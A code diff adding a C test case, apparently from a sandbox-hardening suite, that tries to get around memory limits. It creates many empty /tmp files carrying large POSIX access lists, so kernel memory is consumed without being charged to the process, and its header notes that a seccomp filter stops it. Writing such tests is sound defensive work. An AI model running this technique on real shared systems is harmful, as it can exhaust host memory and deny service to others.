@@ -1,0 +1,29 @@
+/* Gives empty files access lists of 64 KiB each: memory of the kernel's that is charged to nobody and has no part in a file's size.
+ * goal: half as much memory again as the limit
+ * stopped by: the system call filter, which has the launcher count calls that set attributes
+ * first: seccomp
+ * second: -
+ * alone: the size of a file system in memory does not count access lists, and its inodes are many
+ */
+#include "attack.h"
+#include <sys/xattr.h>
+struct entry { uint16_t tag, mode; uint32_t id; };
+int main(void) {
+    enum { ENTRIES = 8000 };
+    static struct { uint32_t version; struct entry entry[ENTRIES]; } list = { .version = 2 };
+    list.entry[0] = (struct entry){ 1, 7, -1 };
+    for (int i = 1; i < ENTRIES - 3; i++) list.entry[i] = (struct entry){ 2, 7, getuid() };
+    list.entry[ENTRIES - 3] = (struct entry){ 4, 7, -1 };
+    list.entry[ENTRIES - 2] = (struct entry){ 16, 7, -1 };
+    list.entry[ENTRIES - 1] = (struct entry){ 32, 7, -1 };
+    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0;
+    for (int i = 0; got < wanted; i++, got += sizeof list) {
+        char path[64];
+        snprintf(path, sizeof path, "/tmp/list-%d", i);
+        int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
+        if (fd < 0 || fsetxattr(fd, "system.posix_acl_access", &list, sizeof list, 0)) break;
+        close(fd);
+    }
+    if (got >= wanted) reached("%zu bytes", got);
+    return tried();
+}
